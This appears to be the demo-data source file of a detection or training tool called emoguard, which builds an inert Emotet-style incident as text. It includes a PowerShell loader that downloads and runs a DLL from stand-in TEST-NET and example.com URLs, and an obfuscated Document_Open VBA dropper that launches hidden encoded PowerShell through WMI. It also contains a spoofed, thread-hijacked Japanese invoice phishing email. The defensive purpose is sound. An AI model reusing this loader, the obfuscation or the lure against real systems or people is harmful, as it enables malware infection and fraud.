/**
 * The text of the demo incident. Inert by construction: the macro and the script are only text that
 * emoguard reads; every address is from RFC 5737 (TEST-NET) or RFC 2606 (example.*), no payload exists,
 * and nothing here is ever executed.
 */

/** Stage ⑤: what the macro's encoded PowerShell decodes to — an Emotet-shaped loader over a URL list. */
export const DEMO_POWERSHELL = [
  '# emoguard demo: inert text. TEST-NET and example.com addresses; nothing is downloaded or run.',
  "$urls = 'http://203.0.113.10/wp-content/demo/loader.dll,https://invoice.example.com/demo/loader.dll,http://198.51.100.23:8080/demo/loader.dll'.Split(',')",
  '$out = "$env:TEMP\\emoguard-demo.dll"',
  'foreach ($u in $urls) {',
  '  try {',
  '    (New-Object Net.WebClient).DownloadFile($u, $out)',
  '    Start-Process rundll32.exe "$out,Control_RunDLL"',
  '    break',
  '  } catch {}',
  '}',
].join('\r\n');

export function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** Splits base64 into VBA string pieces joined with `&`, as droppers do to dodge string signatures. */
function vbaPieces(text: string, size: number): string {
  const parts: string[] = [];
  for (let i = 0; i < text.length; i += size) parts.push(`"${text.slice(i, i + size)}"`);
  const lines: string[] = [];
  for (let i = 0; i < parts.length; i += 6)
    lines.push(`    p = p & ${parts.slice(i, i + 6).join(' & ')}`);
  return lines.join('\r\n');
}

/** Stages ③④: Document_Open → obfuscated WMI Win32_Process.Create("powershell -enc …"). */
export function demoMacroModules(): {
  name: string;
  code: string;
  type: 'document' | 'procedural';
}[] {
  const encoded = encodePowerShell(DEMO_POWERSHELL);
  const thisDocument = [
    'Attribute VB_Name = "ThisDocument"',
    "' 請求書テンプレート (emoguard デモ: 無害なテキストで、実行されません)",
    'Private Sub Document_Open()',
    '    Module1.Syncro',
    'End Sub',
  ].join('\r\n');
  const module1 = [
    'Attribute VB_Name = "Module1"',
    "' emoguard demo: inert text shaped like a 2020 Emotet dropper; it is never run.",
    'Function Syncro()',
    '    Dim w As String, p As String',
    '    w = "win" & "mgmts" & Chr(58) & "Win32_" & StrReverse("ssecorP")',
    '    p = Chr(112) & "ower" & "shell -w hidden -enc "',
    vbaPieces(encoded, 48),
    '    Set o = GetObject(w)',
    '    o.Create p, Null, Null, pid',
    'End Function',
  ].join('\r\n');
  return [
    { name: 'ThisDocument', code: thisDocument, type: 'document' },
    { name: 'Module1', code: module1, type: 'procedural' },
  ];
}

/** A harmless macro for contrast: formats a table, runs only when called. */
export const DEMO_BENIGN_MACRO = [
  'Attribute VB_Name = "FormatTables"',
  "' Formats every table in the document (a harmless macro for contrast).",
  'Sub FormatAllTables()',
  '    Dim t As Table',
  '    For Each t In ActiveDocument.Tables',
  '        t.Borders.Enable = True',
  '        t.Rows(1).Range.Font.Bold = True',
  '    Next t',
  'End Sub',
  '',
].join('\r\n');

export const DEMO_MAIL = {
  // Display-name spoofing: the name carries a partner's address, the real sender is elsewhere.
  from: { name: 'keiri@partner.example.jp', address: 'noreply@mailer.example.net' },
  to: 'tanaka@victim.example.co.jp',
  replyTo: 'billing@mailer.example.net',
  // Thread hijacking: a reply inside a stolen conversation.
  subject: 'Re: 【請求書】11月分のご請求について',
  inReplyTo: '<20261101093012.4F2A@partner.example.jp>',
  text: [
    '田中様',
    '',
    'いつもお世話になっております。',
    '11月分の請求書を添付いたしますので、ご確認のほどよろしくお願いいたします。',
    '添付ファイルを開き、「コンテンツの有効化」をクリックしてください。',
    '',
    '> 先日はお打ち合わせありがとうございました。',
    '> 請求書の送付をお待ちしております。',
    '',
    '株式会社パートナー 経理部',
  ].join('\r\n'),
  attachmentName: '請求書_202611.doc',
};
